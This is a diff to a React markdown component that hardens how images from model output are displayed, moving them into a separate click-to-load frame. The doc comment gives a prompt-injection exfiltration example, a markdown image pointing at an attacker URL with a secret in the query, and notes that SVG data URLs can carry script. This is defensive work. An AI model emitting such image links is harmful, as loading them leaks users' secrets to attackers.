@@ -1,6 +1,7 @@
 "use client";
 
 import { type MouseEvent, type ReactNode, useState } from "react";
+import { RemoteImage } from "./remote-image";
 import { safeImageUrl, safeLinkHref } from "./url";
 import { useMarkdownStrings } from "./use-strings";
 
@@ -30,10 +31,11 @@ export function SafeLink({ href, title, children }: { href: string; title?: stri
 }
 
 /**
- * An image from model output. A prompt injection can ask the model to emit
- * `![](https://attacker/?q=<secret>)`, and merely loading that URL leaks the secret, so nothing is
- * fetched until the user clicks; then without a Referer. `data:` and other schemes (an SVG data
- * URL can carry script) never become images.
+ * An image from model output (or a remote file in an imported message). A prompt injection can
+ * ask the model to emit `![](https://attacker/?q=<secret>)`, and merely loading that URL leaks the
+ * secret, so nothing is fetched until the user clicks; then without a Referer, in a frame of its
+ * own (remote-image.tsx). `data:` and other schemes (an SVG data URL can carry script) never
+ * become images.
  */
 export function SafeImage({ src, alt, title }: { src: string; alt: string; title?: string | null }) {
   const t = useMarkdownStrings();
@@ -48,18 +50,7 @@ export function SafeImage({ src, alt, title }: { src: string; alt: string; title
   }
   const host = url.host;
   if (state === "shown") {
-    return (
-      // biome-ignore lint/performance/noImgElement: a user-requested remote image; next/image would proxy (and so fetch) it server-side.
-      <img
-        src={url.href}
-        alt={alt}
-        title={title ?? undefined}
-        referrerPolicy="no-referrer"
-        decoding="async"
-        onError={() => setState("failed")}
-        className="my-2 inline-block h-auto max-w-full rounded-lg border border-zinc-200 dark:border-zinc-800"
-      />
-    );
+    return <RemoteImage url={url.href} title={title || alt || host} onFailed={() => setState("failed")} />;
   }
   const load = (e: MouseEvent) => {
     // The image may sit inside a link: load it, do not follow the link.
